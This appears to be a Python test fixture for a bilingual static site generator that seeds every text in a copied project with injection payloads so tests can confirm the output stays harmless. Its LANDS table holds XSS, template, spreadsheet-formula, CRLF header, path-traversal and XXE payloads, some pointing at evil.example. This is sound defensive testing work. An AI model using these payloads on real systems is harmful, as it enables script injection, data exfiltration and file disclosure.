"""What an enemy, or an unlucky editor, may write; and a project in which every text is such.

Owns: the table of payloads that are text like any other and must land harmless, and how they are laid into a copy of
the project. Each would set ``window.__ran`` or open a dialog if anything ran. Holds no assertion.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path
from typing import Any

import yaml

from generators.problems import Problems
from generators.source import load_markdown, load_yaml

RUN = "window.__ran=1"
LANDS: dict[str, str] = {
    "ampersand": "A & B &amp; C &#60;d&#62; &lt;e&gt;",
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><ScRiPt>{RUN}</ScRiPt>",
    "end of script": f"</script><script>{RUN}</script>",
    "end of title": f"</title></style></textarea><script>{RUN}</script>",
    "image": f"\"><img src=x onerror=\"{RUN}\">",
    "image in single quotes": f"'><img src=x onerror='{RUN}'>",
    "handler": f"\" onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" x=\"",
    "handler without quotes": f"x onfocus={RUN} tabindex=1 autofocus",
    "svg": f"<svg/onload={RUN}><svg><animate onbegin={RUN} attributeName=x></svg>",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    "frame": f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    "object": f"<object data=\"data:text/html,<script>{RUN}</script>\"></object><embed src=x>",
    "base": "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "refresh": "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "form": "<form action=https://evil.example/><button>x</button></form>",
    "script address": f"<a href=\"javascript:{RUN}\">x</a> javascript:{RUN}",
    "script address in pieces": f"<a href=\"java&#9;script:{RUN}\">x</a> jav&#x0A;ascript:{RUN}",
    "data address": f"data:text/html;base64,PHNjcmlwdD4= data:text/html,<script>{RUN}</script>",
    "comment opens": "<!-- chưa đóng",
    "comment closes": f"--> <script>{RUN}</script> --!>",
    "cdata closes": f"]]> <script>{RUN}</script>",
    "cdata opens": "<![CDATA[ <?php x ?> <!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]> &y;",
    "block of the site": "<!-- campaign: home-start --> <!-- campaign: khong-co -->",
    "marker of the shell": "@@content@@ @@base@@ @@khong-co@@ @@current:x@@ @@assets@@",
    "template": "{{7*7}} {% raw %} {# x #} {{ config }} {{''.__class__.__mro__}}",
    "template of others": "${7*7} #{7*7} <%= 7*7 %> [[7*7]] {{constructor.constructor('window.__ran=1')()}}",
    "formula": "=cmd|' /C calc'!A0",
    "formula by sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula with plus": "+HYPERLINK(\"https://evil.example/?x=\"&A1,\"x\")",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula in full width": "＝1＋1",
    "calendar property": "Họp\nATTACH:https://evil.example/x\nBEGIN:VALARM\nEND:VEVENT",
    "calendar signs": "a;b,c\\n\\;d:e\"f",
    "header": "x%0d%0aSet-Cookie: a=b\nLocation: https://evil.example/",
    "path": "../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd",
    "device": "con nul aux prn",
    "escapes": "\\u003cscript\\u003e \\x3c \\\\ \\' `x` \\",
    "json": "\"},\"x\":{\"y\":[\"</script>",
    "emoji": "👩🏽‍🌾👨‍👩‍👧‍👦📱🇻🇳️",
    "composed apart": "Bình dân học vụ số",
    "joiners": "a‌b‍c­d",
    "stacked marks": "a" + "\u0323\u0302\u0301" * 30,
    "Arabic and Hebrew": "مرحبا שלום 123",
    "astral letters": "𝕏𝔂𝕫 𒀀 𠮷",
    "long": "Rất dài " * 75,
    "long word": "Dài" * 200,
    "only signs": "?? !! ... --- === *** ___ ``` ~~~ ||| >>> ###",
    "percent": "%s %d %n %(x)s {0} {x} {x.y} {x!r:>9}",
}
# In every text but these: rules hold them to the words of a plan, or they say something about the others.
_LEFT = frozenset({"mottos", "phrases", "quote", "also_vi", "also_en", "official_hosts", "spoken", "written", "led"})
_WORDS_LEFT = re.compile(r"id-.*|.*-path|menu-.*|site-name")


class Elements(HTMLParser):
    """The elements of a page with their attributes, and what it says to machines."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.things: list[str] = []
        self._in_data = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, {name: value or "" for name, value in attrs}))
        self._in_data = tag == "script" and dict(attrs).get("type") == "application/ld+json"

    def handle_data(self, data: str) -> None:
        if self._in_data:
            self.things.append(data)

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002 - the library names it
        self._in_data = False

    @classmethod
    def of(cls, html: str) -> Elements:
        """Reads a page."""
        reader = cls()
        reader.feed(html)
        reader.close()
        return reader


def laid_out(root: Path, to: Path) -> Path:
    """Copies the project at ``root`` into ``to`` and lays a payload at the end of every text in it."""
    for part in ("content", "data", "theme_overrides"):
        shutil.copytree(root / part, to / part)
    shutil.copy(root / "mkdocs.yml", to)
    (to / "generators/render").mkdir(parents=True)
    (to / "generators/render/templates").symlink_to(root / "generators/render/templates")
    payloads = cycle(LANDS.values())
    for file in sorted((to / "data").rglob("*.yml")):
        if file.name not in {"spoken.yml", "slogans.yml", "words.yml"}:
            _write_yaml(to, file.relative_to(to).as_posix(), lambda text: f"{text} {next(payloads)}")
    _write_words(to / "data/words.yml", payloads)
    for file in sorted((to / "content").rglob("*.md")):
        _write_markdown(file, payloads)
    return to


def _write_yaml(root: Path, path: str, changed: Callable[[str], str]) -> None:
    source = load_yaml(root, path, Problems())
    assert source is not None
    (root / path).write_text(dumped(changed_texts(source.value, changed)), encoding="utf-8")


def dumped(value: Any) -> str:
    """The value as YAML that the reader takes for the very same value."""
    text: str = yaml.dump(value, Dumper=_Quoting, allow_unicode=True, sort_keys=False, width=4000)
    return text


class _Quoting(yaml.SafeDumper):
    """Writes every text in quotation marks, and none of them by reference."""

    def ignore_aliases(self, data: Any) -> bool:  # noqa: ARG002 - the library asks for each value
        return True


_Quoting.add_representer(str, lambda dumper, text: dumper.represent_scalar("tag:yaml.org,2002:str", text, style='"'))


def changed_texts(value: Any, changed: Callable[[str], str]) -> Any:
    """The value with every text of a language in it changed, except where rules hold it to other words."""
    if isinstance(value, list):
        return [changed_texts(one, changed) for one in value]
    if not isinstance(value, dict):
        return value
    return {
        key: changed(one)
        if key in {"vi", "en"} and isinstance(one, str)
        else one
        if key in _LEFT
        else changed_texts(one, changed)
        for key, one in value.items()
    }


def _write_words(file: Path, payloads: Iterator[str]) -> None:
    value = yaml.safe_load(file.read_text(encoding="utf-8"))
    for key, texts in value.items():
        if not _WORDS_LEFT.fullmatch(key):
            payload = next(payloads).replace("{", "{{").replace("}", "}}")
            value[key] = {lang: f"{text} {payload}" for lang, text in texts.items()}
    file.write_text(dumped(value), encoding="utf-8")


def _write_markdown(file: Path, payloads: Iterator[str]) -> None:
    """Front matter as any data; in the body what Markdown shows as written, for its HTML is refused by name."""
    source = load_markdown(file.parent, file.name, Problems())
    assert source is not None
    value = source.value
    for key in ("title", "description", "summary", "alt"):
        if value.get(key):
            value[key] = f"{value[key]} {next(payloads)}"
    value = changed_texts(value, lambda text: f"{text} {next(payloads)}")
    shown = "".join(f"\n`` {next(payloads)} ``\n\n    {next(payloads)}\n" for _ in range(2))
    shown = re.sub(r"\n(?=[A-Z]+:|END)", " ", shown)
    file.write_text(f"---\n{dumped(value)}---\n{source.body}{shown}", encoding="utf-8")
